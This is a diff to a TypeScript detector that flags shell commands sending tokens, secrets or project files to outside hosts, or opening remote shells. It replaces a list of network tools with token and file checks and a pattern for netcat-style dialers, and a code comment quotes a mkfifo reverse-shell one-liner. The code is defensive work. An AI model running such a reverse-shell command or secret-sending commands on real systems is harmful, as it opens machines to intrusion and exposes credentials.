@@ -1,44 +1,9 @@
 import type { SimpleCommand } from '../../shell/simple-command.ts'
+import { isShell } from '../../shell/wrappers/wrappers.ts'
 import { lineOf } from '../line.ts'
+import { hasTokenSign } from '../program-names.ts'
 import { has, type Look, type Scene, valuesAfter } from '../scene.ts'
-
-export const SENDERS: ReadonlySet<string> = new Set([
-  'curl',
-  'wget',
-  'nc',
-  'ncat',
-  'netcat',
-  'socat',
-  'telnet',
-  'scp',
-  'sftp',
-  'ftp',
-  'http',
-  'https',
-  'xh',
-  'mail',
-  'mailx',
-  'sendmail',
-  'mutt',
-  'dig',
-  'nslookup',
-  'host',
-  'ping',
-  'openssl',
-  'rclone',
-  'croc',
-  'wormhole',
-  'ssh',
-  'gh',
-  'aws',
-  'gsutil',
-  'pastebinit',
-  'termbin',
-  'tftp',
-  'rsync',
-  'smbclient',
-  'logger',
-])
+import { TOKEN } from '../tokens.ts'
 
 export function isThisMachine(word: string): boolean {
   return /^(?:https?:\/\/)?(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[::1\]|host\.docker\.internal|[\w-]+\.local(?:host)?)(?::|\/|$)|^:\d+/.test(
@@ -54,10 +19,16 @@ export const sender: Look = (command, scene, at) => {
   if (command.name === 'socat' && /\b(?:EXEC|SYSTEM):/i.test(lineOf(command))) scene.add('runs', 'remote', command)
   if (words.slice(1).some(isThisMachine)) return
   const identity = valuesAfter(command, '-i')
+  // A header is how a token is used; an address or a body is how it is given away.
+  const used = valuesAfter(command, '-H', '--header', '-u', '--user', '--oauth2-bearer', '-b', '--cookie')
+  for (const word of words.slice(1))
+    if (hasTokenSign(word) && TOKEN.test(word) && !used.includes(word)) scene.add('sends', 'secret', command, 'a token')
   for (const word of words.slice(1)) {
     if (/^(?:ssh|scp|sftp)$/.test(command.name) && identity.includes(word)) continue
     if (/^https?:.*[?&][\w-]+=.*\$\{?\w*(?:TOKEN|SECRET|PASSWORD|KEY)\w*/.test(word))
       scene.add('sends', 'secret', command, word)
+    if (word.startsWith('file://') && scene.place(word, command).place === 'secret')
+      scene.add('reads', 'secret', command, word)
     const file =
       /^(?:[\w.[\]-]*=|\w+(?=@))?[@<](.+?)(?:;.*)?$/.exec(word)?.[1] ??
       (command.name === 'curl' || command.name === 'wget' ? undefined : word)
@@ -75,6 +46,8 @@ export const sender: Look = (command, scene, at) => {
   const producers = scene.feeding(at)
   const inText = lineOf(command)
   for (const producer of producers) {
+    // `mkfifo f; cat f | sh -i | nc host 4444 > f`
+    if (isShell(producer.name) && DIALS.test(command.name)) scene.add('runs', 'remote', command, lineOf(producer))
     if (showsSecret(producer, scene)) scene.add('sends', 'secret', command, lineOf(producer))
     if (/^(?:nc|ncat|netcat|curl|socat)$/.test(command.name) && packsProject(producer, scene))
       scene.add('sends', 'project', command, lineOf(producer))
@@ -86,6 +59,8 @@ export const sender: Look = (command, scene, at) => {
     )
       scene.add('sends', 'secret', command, inner)
 }
+
+const DIALS = /^(?:nc|ncat|netcat|socat|telnet|openssl)$/
 
 function showsSecret(producer: SimpleCommand, scene: Scene): boolean {
   if (
